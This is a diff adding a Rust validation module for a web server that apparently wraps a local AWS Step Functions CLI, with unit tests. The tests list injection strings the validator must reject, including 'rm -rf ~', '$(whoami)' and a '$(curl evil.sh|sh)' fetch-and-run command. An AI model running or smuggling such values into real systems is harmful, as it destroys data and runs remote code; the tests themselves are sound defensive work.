@@ -0,0 +1,477 @@
+use std::fmt;
+
+use actix_web::http::header::ContentType;
+use actix_web::http::StatusCode;
+use actix_web::{web, HttpRequest, HttpResponse, ResponseError};
+use serde::de::DeserializeOwned;
+use serde_json::Value;
+
+use crate::asl::StateMachineDefinition;
+use crate::history::HistoryQuery;
+use crate::model::{ExecutionsQuery, ServerError};
+
+const EXECUTION_STATUSES: [&str; 6] = [
+    "RUNNING",
+    "SUCCEEDED",
+    "FAILED",
+    "TIMED_OUT",
+    "ABORTED",
+    "PENDING_REDRIVE",
+];
+/// The largest page Step Functions returns from its List operations.
+pub const MAX_PAGE_SIZE: u32 = 1000;
+const MAX_NEXT_TOKEN_LENGTH: usize = 1024;
+
+/// Characters Step Functions rejects in state machine and execution names.
+const FORBIDDEN_NAME_CHARS: &str = "<>{}[]?*\"#%\\^|~`$&,;:/";
+const MAX_NAME_LENGTH: usize = 80;
+/// Step Functions limits on the `error` and `cause` of a stopped execution.
+const MAX_STOP_ERROR_LENGTH: usize = 256;
+const MAX_STOP_CAUSE_LENGTH: usize = 32768;
+
+#[derive(Debug, PartialEq)]
+pub enum ValidationError {
+    Region(String),
+    Arn(String),
+    Name(String),
+    ExecutionInput(String),
+    RequestBody(String),
+    Definition(String),
+    Query(String),
+}
+
+impl fmt::Display for ValidationError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ValidationError::Region(region) => write!(f, "invalid region {region:?}"),
+            ValidationError::Arn(arn) => write!(f, "invalid ARN {arn:?}"),
+            ValidationError::Name(name) => {
+                write!(f, "invalid name {name:?}")
+            }
+            ValidationError::ExecutionInput(reason) => {
+                write!(f, "execution input is not valid JSON: {reason}")
+            }
+            ValidationError::RequestBody(reason) => {
+                write!(f, "invalid request body: {reason}")
+            }
+            ValidationError::Definition(reason) => {
+                write!(f, "invalid state machine definition: {reason}")
+            }
+            ValidationError::Query(reason) => {
+                write!(f, "invalid query string: {reason}")
+            }
+        }
+    }
+}
+
+impl ValidationError {
+    pub fn code(&self) -> &'static str {
+        match self {
+            ValidationError::Region(_) => "InvalidRegion",
+            ValidationError::Arn(_) => "InvalidArn",
+            ValidationError::Name(_) => "InvalidName",
+            ValidationError::ExecutionInput(_) => "InvalidExecutionInput",
+            ValidationError::RequestBody(_) => "InvalidRequestBody",
+            ValidationError::Definition(_) => "InvalidDefinition",
+            ValidationError::Query(_) => "InvalidQuery",
+        }
+    }
+}
+
+impl ResponseError for ValidationError {
+    fn status_code(&self) -> StatusCode {
+        StatusCode::BAD_REQUEST
+    }
+
+    fn error_response(&self) -> HttpResponse {
+        HttpResponse::build(self.status_code())
+            .content_type(ContentType::json())
+            .json(ServerError {
+                code: Some(self.code().to_string()),
+                message: format!("ERROR: {}", self),
+                stderr: None,
+            })
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum ArnKind {
+    StateMachine,
+    Execution,
+}
+
+/// Accepts `us-east-1`, `us-gov-west-1`, `cn-north-1` and the like.
+pub fn region(region: &str) -> Result<String, ValidationError> {
+    let parts: Vec<&str> = region.split('-').collect();
+    let valid = region.len() <= 32
+        && parts.len() >= 3
+        && parts[..parts.len() - 1]
+            .iter()
+            .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_lowercase()))
+        && parts[parts.len() - 1].bytes().all(|b| b.is_ascii_digit())
+        && !parts[parts.len() - 1].is_empty();
+
+    if valid {
+        Ok(region.to_string())
+    } else {
+        Err(ValidationError::Region(region.to_string()))
+    }
+}
+
+fn name(name: &str) -> bool {
+    !name.is_empty()
+        && name.chars().count() <= MAX_NAME_LENGTH
+        && name
+            .chars()
+            .all(|c| !c.is_whitespace() && !c.is_control() && !FORBIDDEN_NAME_CHARS.contains(c))
+}
+
+/// Accepts `arn:<partition>:states:<region>:<account>:stateMachine:<name>[:<version or alias>]`
+/// and `arn:<partition>:states:<region>:<account>:(execution|express):<machine>:<name>`.
+pub fn arn(arn: &str, kind: ArnKind) -> Result<String, ValidationError> {
+    let invalid = || ValidationError::Arn(arn.to_string());
+    let parts: Vec<&str> = arn.split(':').collect();
+    if parts.len() < 7 || parts[0] != "arn" || parts[2] != "states" {
+        return Err(invalid());
+    }
+    let partition_ok = parts[1].starts_with("aws")
+        && parts[1]
+            .bytes()
+            .all(|b| b.is_ascii_lowercase() || b == b'-');
+    let account_ok = parts[4].len() == 12 && parts[4].bytes().all(|b| b.is_ascii_digit());
+    let resource_ok = match (kind, parts[5]) {
+        (ArnKind::StateMachine, "stateMachine") => parts.len() <= 8,
+        (ArnKind::Execution, "execution" | "express") => parts.len() == 8,
+        _ => false,
+    };
+
+    if partition_ok
+        && region(parts[3]).is_ok()
+        && account_ok
+        && resource_ok
+        && parts[6..].iter().all(|part| name(part))
+    {
+        Ok(arn.to_string())
+    } else {
+        Err(invalid())
+    }
+}
+
+/// State machine and execution names share the same rules.
+pub fn resource_name(resource_name: &str) -> Result<String, ValidationError> {
+    if name(resource_name) {
+        Ok(resource_name.to_string())
+    } else {
+        Err(ValidationError::Name(resource_name.to_string()))
+    }
+}
+
+/// Execution input may arrive as a JSON value or, as in the AWS API, as a
+/// string holding JSON. Either way it is handed on as a JSON document.
+pub fn execution_input(input: Option<Value>) -> Result<String, ValidationError> {
+    match input {
+        None => Ok(String::from("{}")),
+        Some(Value::String(document)) => serde_json::from_str::<Value>(&document)
+            .map(|_| document)
+            .map_err(|e| ValidationError::ExecutionInput(e.to_string())),
+        Some(value) => Ok(value.to_string()),
+    }
+}
+
+/// The `error` and `cause` recorded on a stopped execution, within the
+/// lengths Step Functions accepts.
+pub fn stop_reason(
+    error: Option<String>,
+    cause: Option<String>,
+) -> Result<(String, String), ValidationError> {
+    let error = error.unwrap_or_else(|| String::from("manualstop"));
+    let cause = cause.unwrap_or_else(|| String::from("manual step functions local stop"));
+    if error.chars().count() > MAX_STOP_ERROR_LENGTH {
+        return Err(ValidationError::RequestBody(format!(
+            "error must be at most {MAX_STOP_ERROR_LENGTH} characters"
+        )));
+    }
+    if cause.chars().count() > MAX_STOP_CAUSE_LENGTH {
+        return Err(ValidationError::RequestBody(format!(
+            "cause must be at most {MAX_STOP_CAUSE_LENGTH} characters"
+        )));
+    }
+    Ok((error, cause))
+}
+
+/// Checks an ASL definition (a JSON object or a string holding one) against
+/// [`StateMachineDefinition`] and returns it as the string Step Functions expects.
+pub fn definition(definition: Value) -> Result<String, ValidationError> {
+    let document = match definition {
+        Value::String(document) => document,
+        value => value.to_string(),
+    };
+    serde_json::from_str::<StateMachineDefinition>(&document)
+        .map(|_| document)
+        .map_err(|e| ValidationError::Definition(e.to_string()))
+}
+
+/// Parses an optional JSON request body; an empty or `null` body yields the
+/// default, since the UI posts `null` when it has nothing to send.
+pub fn json_body<T: DeserializeOwned + Default>(body: &[u8]) -> Result<T, ValidationError> {
+    if body.trim_ascii().is_empty() || body.trim_ascii() == b"null" {
+        return Ok(T::default());
+    }
+    serde_json::from_slice(body).map_err(|e| ValidationError::RequestBody(e.to_string()))
+}
+
+/// Parses the query string into `T`; unknown parameters are ignored.
+pub fn query<T: DeserializeOwned>(req: &HttpRequest) -> Result<T, ValidationError> {
+    web::Query::<T>::from_query(req.query_string())
+        .map(web::Query::into_inner)
+        .map_err(|e| ValidationError::Query(e.to_string()))
+}
+
+pub fn page_size(limit: Option<u32>) -> Result<Option<u32>, ValidationError> {
+    match limit {
+        Some(limit) if !(1..=MAX_PAGE_SIZE).contains(&limit) => Err(ValidationError::Query(
+            format!("limit must be between 1 and {MAX_PAGE_SIZE}, got {limit}"),
+        )),
+        limit => Ok(limit),
+    }
+}
+
+/// Pagination tokens are opaque, but they end up as CLI arguments, so keep
+/// them to printable ASCII.
+pub fn next_token(token: Option<String>) -> Result<Option<String>, ValidationError> {
+    match token {
+        Some(token)
+            if token.is_empty()
+                || token.len() > MAX_NEXT_TOKEN_LENGTH
+                || !token.bytes().all(|byte| byte.is_ascii_graphic()) =>
+        {
+            Err(ValidationError::Query(String::from(
+                "nextToken is not a token returned by this server",
+            )))
+        }
+        token => Ok(token),
+    }
+}
+
+pub fn executions_query(req: &HttpRequest) -> Result<ExecutionsQuery, ValidationError> {
+    let query: ExecutionsQuery = query(req)?;
+    if let Some(status) = &query.status {
+        if !EXECUTION_STATUSES.contains(&status.as_str()) {
+            return Err(ValidationError::Query(format!(
+                "status must be one of {}, got {status:?}",
+                EXECUTION_STATUSES.join(", ")
+            )));
+        }
+    }
+    Ok(ExecutionsQuery {
+        status: query.status,
+        limit: page_size(query.limit)?,
+        next_token: next_token(query.next_token)?,
+    })
+}
+
+pub fn history_query(req: &HttpRequest) -> Result<HistoryQuery, ValidationError> {
+    let query: HistoryQuery = query(req)?;
+    Ok(HistoryQuery {
+        max_results: page_size(query.max_results)?,
+        next_token: next_token(query.next_token)?,
+        ..query
+    })
+}
+
+/// Validated `{region}` and `{arn}` path segments.
+pub fn target(req: &HttpRequest, kind: ArnKind) -> Result<(String, String), ValidationError> {
+    let region = region(req.match_info().get("region").unwrap_or_default())?;
+    let arn = arn(req.match_info().get("arn").unwrap_or_default(), kind)?;
+    Ok((region, arn))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn accepts_real_regions() {
+        for valid in [
+            "us-east-1",
+            "eu-central-2",
+            "us-gov-west-1",
+            "ap-southeast-4",
+        ] {
+            assert!(region(valid).is_ok(), "{valid}");
+        }
+    }
+
+    #[test]
+    fn rejects_regions_with_shell_syntax() {
+        for invalid in [
+            "",
+            "us-east-1;rm -rf ~",
+            "us-east-1 --debug",
+            "$(whoami)",
+            "us-east-1`id`",
+            "US-EAST-1",
+            "us-east",
+        ] {
+            assert_eq!(
+                region(invalid),
+                Err(ValidationError::Region(invalid.to_string())),
+                "{invalid}"
+            );
+        }
+    }
+
+    #[test]
+    fn accepts_state_machine_and_execution_arns() {
+        assert!(arn(
+            "arn:aws:states:us-east-1:123456789012:stateMachine:orders",
+            ArnKind::StateMachine
+        )
+        .is_ok());
+        assert!(arn(
+            "arn:aws:states:us-east-1:123456789012:stateMachine:orders:prod",
+            ArnKind::StateMachine
+        )
+        .is_ok());
+        assert!(arn(
+            "arn:aws:states:us-east-1:123456789012:execution:orders:5f0c-41b2_retry.1",
+            ArnKind::Execution
+        )
+        .is_ok());
+    }
+
+    #[test]
+    fn rejects_malformed_and_malicious_arns() {
+        for (invalid, kind) in [
+            (
+                "arn:aws:states:us-east-1:123456789012:stateMachine:orders;rm -rf ~",
+                ArnKind::StateMachine,
+            ),
+            (
+                "arn:aws:states:us-east-1:123456789012:stateMachine:$(curl evil.sh|sh)",
+                ArnKind::StateMachine,
+            ),
+            (
+                "arn:aws:states:us-east-1:123456789012:stateMachine:orders --endpoint-url http://evil",
+                ArnKind::StateMachine,
+            ),
+            (
+                "arn:aws:states:us-east-1:123456789012:execution:orders:run",
+                ArnKind::StateMachine,
+            ),
+            (
+                "arn:aws:states:us-east-1:123456789012:stateMachine:orders",
+                ArnKind::Execution,
+            ),
+            (
+                "arn:aws:lambda:us-east-1:123456789012:function:orders",
+                ArnKind::StateMachine,
+            ),
+            (
+                "arn:aws:states:us-east-1:1234:stateMachine:orders",
+                ArnKind::StateMachine,
+            ),
+        ] {
+            assert!(arn(invalid, kind).is_err(), "{invalid}");
+        }
+    }
+
+    #[test]
+    fn execution_input_must_be_json() {
+        assert_eq!(execution_input(None), Ok(String::from("{}")));
+        assert_eq!(
+            execution_input(Some(serde_json::json!({"orderId": 7}))),
+            Ok(String::from(r#"{"orderId":7}"#))
+        );
+        assert_eq!(
+            execution_input(Some(Value::String(String::from(r#"{"orderId":7}"#)))),
+            Ok(String::from(r#"{"orderId":7}"#))
+        );
+        assert!(matches!(
+            execution_input(Some(Value::String(String::from("{orderId: 7")))),
+            Err(ValidationError::ExecutionInput(_))
+        ));
+    }
+
+    #[test]
+    fn definitions_must_parse_as_asl() {
+        let valid = serde_json::json!({
+            "Comment": "orders",
+            "StartAt": "Done",
+            "States": {"Done": {"Type": "Succeed"}}
+        });
+        assert_eq!(definition(valid.clone()), Ok(valid.to_string()));
+        assert_eq!(
+            definition(Value::String(valid.to_string())),
+            Ok(valid.to_string())
+        );
+
+        let unknown_type = serde_json::json!({
+            "Comment": "orders",
+            "StartAt": "Done",
+            "States": {"Done": {"Type": "Finish"}}
+        });
+        assert!(matches!(
+            definition(unknown_type),
+            Err(ValidationError::Definition(_))
+        ));
+        assert!(matches!(
+            definition(Value::String(String::from("{"))),
+            Err(ValidationError::Definition(_))
+        ));
+    }
+
+    #[test]
+    fn executions_query_is_checked() {
+        let req = actix_web::test::TestRequest::get()
+            .uri("/?status=FAILED&limit=25&nextToken=abc%2Bdef%3D%3D")
+            .to_http_request();
+        let query = executions_query(&req).unwrap();
+        assert_eq!(query.status.as_deref(), Some("FAILED"));
+        assert_eq!(query.limit, Some(25));
+        assert_eq!(query.next_token.as_deref(), Some("abc+def=="));
+
+        for invalid in [
+            "/?status=failed",
+            "/?limit=0",
+            "/?limit=1001",
+            "/?limit=ten",
+            "/?nextToken=",
+            "/?nextToken=a%20--debug",
+        ] {
+            let req = actix_web::test::TestRequest::get()
+                .uri(invalid)
+                .to_http_request();
+            assert!(
+                matches!(executions_query(&req), Err(ValidationError::Query(_))),
+                "{invalid}"
+            );
+        }
+    }
+
+    #[test]
+    fn history_query_defaults_to_oldest_first_with_data() {
+        let req = actix_web::test::TestRequest::get()
+            .uri("/")
+            .to_http_request();
+        let query = history_query(&req).unwrap();
+        assert!(!query.reverse_order);
+        assert!(query.include_execution_data);
+
+        let req = actix_web::test::TestRequest::get()
+            .uri("/?maxResults=20&reverseOrder=true&includeExecutionData=false")
+            .to_http_request();
+        let query = history_query(&req).unwrap();
+        assert_eq!(query.max_results, Some(20));
+        assert!(query.reverse_order);
+        assert!(!query.include_execution_data);
+
+        let req = actix_web::test::TestRequest::get()
+            .uri("/?reverseOrder=yes")
+            .to_http_request();
+        assert!(matches!(
+            history_query(&req),
+            Err(ValidationError::Query(_))
+        ));
+    }
+}